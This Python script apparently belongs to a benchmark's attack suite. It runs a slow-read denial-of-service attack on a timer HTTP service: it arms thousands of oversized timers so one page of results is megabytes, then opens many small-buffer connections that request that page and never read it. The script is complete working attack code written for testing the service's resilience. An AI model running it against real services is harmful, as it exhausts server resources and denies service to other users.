"""The unread-response attack, as a second user runs it (Debian's python3, standard
library only): arm many timers with long scope ids on one of its own processes, so one
page of ``GET /timers`` is megabytes, then open connections with a tiny receive
buffer, send that GET on each, and never read.

    python3 unread_flood.py HOST PORT arm PID COUNT
        arms COUNT timers for PID, prints the size of the page of them in bytes
    python3 unread_flood.py HOST PORT flood CONNECTIONS
        opens the connections and sends the GET on each, prints a JSON line of the
        statuses they were answered with, then holds them, unread, until stdin closes

Also used by bench/attacks.py.
"""

from __future__ import annotations

import http.client
import json
import select
import socket
import sys
import time

# Four bytes of UTF-8 per character, 1,000 characters: each timer is about 4 KB of JSON.
SCOPE_CHARACTERS = 1000
RECEIVE_BUFFER = 4096
ANSWER_WAIT = 20.0
PATH = "/timers?limit=1000"


def scope(index: int) -> str:
    return f"{index}:" + "\U0001f600" * SCOPE_CHARACTERS


def arm(host: str, port: int, pid: int, count: int) -> None:
    connection = http.client.HTTPConnection(host, port, timeout=30)
    for index in range(count):
        body = json.dumps({"pid": pid, "scope_id": scope(index), "expires_in": 600})
        connection.request("POST", "/timers", body, {"content-type": "application/json"})
        answer = connection.getresponse()
        answer.read()
        if answer.status != 201:
            sys.exit(f"arming timer {index} answered {answer.status}")
    connection.request("GET", PATH)
    print(len(connection.getresponse().read()))


def flood(host: str, port: int, count: int) -> None:
    held = []
    request = f"GET {PATH} HTTP/1.1\r\nhost: {host}\r\n\r\n".encode()
    for _ in range(count):
        sock = socket.socket()
        # Before connect, so the window the service sees is small from the start.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER)
        sock.connect((host, port))
        sock.sendall(request)
        held.append(sock)
    # Each connection's status line, peeked at (MSG_PEEK takes nothing from the socket),
    # once it has one, for up to ANSWER_WAIT seconds: a page is never read.
    answers: dict[str, int] = {}
    waiting = list(held)
    deadline = time.monotonic() + ANSWER_WAIT
    while waiting and time.monotonic() < deadline:
        ready, _, _ = select.select(waiting, [], [], max(0.0, deadline - time.monotonic()))
        for sock in ready:
            try:
                first = sock.recv(64, socket.MSG_PEEK)
            except OSError:
                first = b""  # reset: the service dropped it
            status = first.split(b" ", 2)[1].decode() if first.startswith(b"HTTP/") else "closed"
            answers[status] = answers.get(status, 0) + 1
            waiting.remove(sock)
    answers["none"] = len(waiting)
    print(json.dumps({"connections": count, "answers": answers}), flush=True)
    sys.stdin.read()  # hold them until told
    for sock in held:
        sock.close()


def main() -> None:
    host, port, action = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    if action == "arm":
        arm(host, port, int(sys.argv[4]), int(sys.argv[5]))
    else:
        flood(host, port, int(sys.argv[4]))


if __name__ == "__main__":
    main()
